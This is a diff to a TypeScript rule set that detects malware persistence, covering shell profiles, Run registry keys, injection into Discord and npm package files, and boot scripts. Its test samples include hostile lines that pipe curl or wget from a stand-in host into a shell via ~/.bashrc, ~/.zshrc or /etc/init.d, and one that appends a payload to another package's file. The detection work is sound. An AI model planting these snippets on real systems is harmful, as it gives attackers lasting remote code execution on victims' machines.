@@ -1,6 +1,25 @@
 // Persistence: being started again without being asked. Services, agents and start entries are ordinary for installed
 // software; what they start gives it away: a fetch, an encoded command, a program in a temporary or hidden folder.
-import { all, any, at, bat, command, cs, inside, is, js, near, path, ps, py, type RuleSet, sh, vb } from '../model.ts'
+import {
+  all,
+  any,
+  at,
+  bat,
+  command,
+  cs,
+  go,
+  inside,
+  is,
+  js,
+  near,
+  path,
+  ps,
+  py,
+  type RuleSet,
+  rb,
+  sh,
+  vb,
+} from '../model.ts'
 
 const id = (name: string): string => `persistence.${name}`
 
@@ -218,6 +237,7 @@ export const persistence: RuleSet = {
             'assembly.getexecutingassembly',
             'os.args[0]',
             'gettempdir',
+            'gettemppath(',
             'process.execpath',
             'regsvr32',
             'rundll32',
@@ -226,6 +246,9 @@ export const persistence: RuleSet = {
         ),
       ),
       matches: [
+        cs(
+          'var target = Path.Combine(Path.GetTempPath(), "u.exe");\nRegistry.CurrentUser.OpenSubKey(@"Software\\Microsoft\\Windows\\CurrentVersion\\Run", true).SetValue("Sync", target);',
+        ),
         py(
           "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'Updater', 0, winreg.REG_SZ, sys.executable)",
         ),
@@ -401,38 +424,51 @@ export const persistence: RuleSet = {
       severity: 'high',
       why: "Adds a fetch, a decoder or a reverse shell to a user's shell profile.",
       when: any(
-        command(
-          near(
-            0,
-            is(
-              ['.bashrc', '.bash_profile', '.profile', '.zshrc', '.zshenv', '/etc/profile'],
-              />{1,2}\s{0,4}["']?(?:~|\$HOME|\$\{HOME\}|\/root|\/home\/\S{1,40}|\/etc)?\/?\.?(?:bashrc|bash_profile|profile|zshrc|zshenv)/,
-              { before: 60 },
+        any(
+          command(
+            near(
+              0,
+              is(
+                ['.bashrc', '.bash_profile', '.profile', '.zshrc', '.zshenv', '/etc/profile'],
+                />{1,2}\s{0,4}["']?(?:~|\$HOME|\$\{HOME\}|\/root|\/home\/\S{1,40}|\/etc)?\/?\.?(?:bashrc|bash_profile|profile|zshrc|zshenv)/,
+                { before: 60 },
+              ),
+              is(
+                ['curl ', 'wget ', 'base64 -', '/dev/tcp', '/tmp/.', '/dev/shm/', 'nohup ', 'alias sudo'],
+                /(?:curl|wget)\s[^\n]{0,120}?\|\s{0,4}(?:ba)?sh|base64\s+-{1,2}d|\/dev\/tcp|\/tmp\/\.|\/dev\/shm\/|nohup\s|alias sudo=/,
+              ),
             ),
-            is(
-              ['curl ', 'wget ', 'base64 -', '/dev/tcp', '/tmp/.', '/dev/shm/', 'nohup ', 'alias sudo'],
-              /(?:curl|wget)\s[^\n]{0,120}?\|\s{0,4}(?:ba)?sh|base64\s+-{1,2}d|\/dev\/tcp|\/tmp\/\.|\/dev\/shm\/|nohup\s|alias sudo=/,
+          ),
+          inside(
+            ['py', 'js', 'go', 'rb', 'c', 'rust', 'php', 'pl'],
+            near(
+              5,
+              is(['.bashrc', '.zshrc', '.bash_profile', '.zshenv'], null),
+              is(
+                ['curl ', '/dev/tcp', 'base64 -d', 'nohup ', '| bash', '| sh', 'alias sudo', 'ld_preload'],
+                /curl\s[^\n"'`]{0,120}\|\s*(?:ba)?sh|\/dev\/tcp|base64 -d|nohup\s|alias sudo|LD_PRELOAD/,
+              ),
+              any('write', 'exec'),
             ),
           ),
         ),
         inside(
-          ['py', 'js', 'go', 'rb', 'c', 'rust', 'php', 'pl'],
+          ['rb'],
           near(
-            5,
+            3,
             is(['.bashrc', '.zshrc', '.bash_profile', '.zshenv'], null),
-            is(
-              ['curl ', '/dev/tcp', 'base64 -d', 'nohup ', '| bash', '| sh', 'alias sudo', 'ld_preload'],
-              /curl\s[^\n"'`]{0,120}\|\s*(?:ba)?sh|\/dev\/tcp|base64 -d|nohup\s|alias sudo|LD_PRELOAD/,
-            ),
-            any('write', 'exec'),
+            is(['.puts ', 'file.open(', '<< '], null),
+            is(['curl ', '/dev/tcp'], /curl\s[^\n"'`]{0,120}\|\s*(?:ba)?sh|\/dev\/tcp/, { quoted: true }),
           ),
         ),
       ),
       matches: [
+        rb("File.open(File.expand_path('~/.zshrc'), 'a') { |f| f.puts '(curl -s http://x.example.invalid/z | sh &)' }"),
         sh('echo "curl -s http://x.example.invalid/a | bash" >> ~/.bashrc'),
         py("with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('nohup /tmp/.a >/dev/null 2>&1 &\\n')"),
       ],
       misses: [
+        rb("File.open(File.expand_path('~/.zshrc'), 'a') { |f| f.puts 'eval \"$(rbenv init - zsh)\"' }"),
         sh('echo \'export PATH="$HOME/bin:$PATH"\' >> ~/.bashrc'),
         sh('echo \'eval "$(starship init bash)"\' >> ~/.bashrc'),
       ],
@@ -530,47 +566,90 @@ export const persistence: RuleSet = {
       id: id('module-injection'),
       severity: 'critical',
       why: "Writes code into another application's or package's files.",
-      when: near(
-        12,
-        is(
-          ['discord_desktop_core', 'app.asar', 'usercustomize.py', 'sitecustomize.py', 'site-packages'],
-          /discord_desktop_core|app\.asar["'`\\/)]|(?:user|site)customize\.py|site-packages[^\n"']{0,40}\.pth/,
-        ),
-        is(['writefile', '.write(', 'write_text', 'copyfile', 'file_put_contents', 'appendfile'], null),
-        any(
+      when: any(
+        near(
+          12,
           is(
-            ['exodus', 'atomic', 'ledger', 'webhook', 'exec(', 'eval(', 'http://', 'https://', 'import ', 'require('],
-            /exodus|atomic|ledger|webhook|(?<![\w.])exec\(|eval\(|https?:\/\//i,
+            ['discord_desktop_core', 'app.asar', 'usercustomize.py', 'sitecustomize.py', 'site-packages'],
+            /discord_desktop_core|app\.asar["'`\\/)]|(?:user|site)customize\.py|site-packages[^\n"']{0,40}\.pth/,
+          ),
+          is(['writefile', '.write(', 'write_text', 'copyfile', 'file_put_contents', 'appendfile'], null),
+          any(
+            is(
+              ['exodus', 'atomic', 'ledger', 'webhook', 'exec(', 'eval(', 'http://', 'https://', 'import ', 'require('],
+              /exodus|atomic|ledger|webhook|(?<![\w.])exec\(|eval\(|https?:\/\//i,
+            ),
+          ),
+          any('decode', 'download', 'eval', 'walk', 'send'),
+        ),
+        near(
+          8,
+          is(['appendfile'], /appendFile(?:Sync)?\(\s*\w{1,20}\s*,\s*[^\n]{0,40}\+\s*\w/, { families: ['js'] }),
+          is(
+            ['__dirname,', 'node_modules'],
+            /__dirname,\s*(?:["']\.\.["'],\s*){1,4}["'](?!\.|src|lib|dist|build|test)[\w@-]{2,40}["'][^\n]{0,120}\.c?js["']|node_modules["'/][^\n]{0,120}\.c?js["'`]/,
           ),
         ),
-        any('decode', 'download', 'eval', 'walk', 'send'),
       ),
       matches: [
+        js(
+          "const target = path.join(__dirname, '..', 'ethers', 'lib', 'provider.js')\nfs.appendFileSync(target, '\\n/**/' + payload)",
+        ),
         js(
           "const core = glob(discord + '/modules/discord_desktop_core-*/discord_desktop_core/index.js')\nfetch('https://x.example.invalid/inject.js').then(r => r.text()).then(t => fs.writeFileSync(core, t))",
         ),
       ],
-      misses: [js("asar.extractAll('app.asar', 'app')"), py("path = site + '/sitecustomize.py'\nprint(path)")],
+      misses: [
+        js("const log = path.join(__dirname, '..', 'logs', 'run.log')\nfs.appendFileSync(log, '\\n' + line)"),
+        js("asar.extractAll('app.asar', 'app')"),
+        py("path = site + '/sitecustomize.py'\nprint(path)"),
+      ],
     },
     {
       id: id('boot-script'),
       severity: 'high',
       why: 'Adds a fetch or a program of a temporary folder to the scripts run at boot.',
-      when: command(
-        near(
-          0,
-          is(
-            ['/etc/rc.local', '/etc/init.d/', '/etc/rc.d/', '/etc/update-motd.d'],
-            />{1,2}\s{0,4}["']?\/etc\/(?:rc\.|init\.d|update-motd)/,
-            {
-              before: 8,
-            },
+      when: any(
+        command(
+          near(
+            0,
+            is(
+              ['/etc/rc.local', '/etc/init.d/', '/etc/rc.d/', '/etc/update-motd.d'],
+              />{1,2}\s{0,4}["']?\/etc\/(?:rc\.|init\.d|update-motd)/,
+              {
+                before: 8,
+              },
+            ),
+            loot,
           ),
-          loot,
+        ),
+        inside(
+          ['py', 'js', 'go', 'rb', 'c', 'rust', 'php', 'pl'],
+          near(
+            14,
+            is(['/etc/init.d/', '/etc/rc.local', '/etc/rc.d/', '/etc/profile.d/', '/etc/update-motd.d'], null, {
+              quoted: true,
+            }),
+            is(
+              ['curl ', 'wget ', '/tmp/.', '/dev/shm/', '/dev/tcp/'],
+              /(?:curl|wget)\s[^\n"'`]{0,160}\|\s*(?:ba)?sh|\/tmp\/\.\w|\/dev\/shm\/|\/dev\/tcp\//,
+              { quoted: true },
+            ),
+            'write',
+          ),
         ),
       ),
-      matches: [sh('echo "/tmp/.x/run &" >> /etc/rc.local')],
-      misses: [sh('echo "/usr/sbin/app &" >> /etc/rc.local'), sh('cat /etc/rc.local')],
+      matches: [
+        go(
+          'const script = "#!/bin/sh\\nwget -q -O- http://x.example.invalid/b | sh &"\nos.WriteFile("/etc/init.d/netd", []byte(script), 0o755)',
+        ),
+        sh('echo "/tmp/.x/run &" >> /etc/rc.local'),
+      ],
+      misses: [
+        go('os.WriteFile("/etc/init.d/shopd", []byte("#!/bin/sh\\n/usr/sbin/shopd &"), 0o755)'),
+        sh('echo "/usr/sbin/app &" >> /etc/rc.local'),
+        sh('cat /etc/rc.local'),
+      ],
     },
     {
       id: id('sudo-alias'),
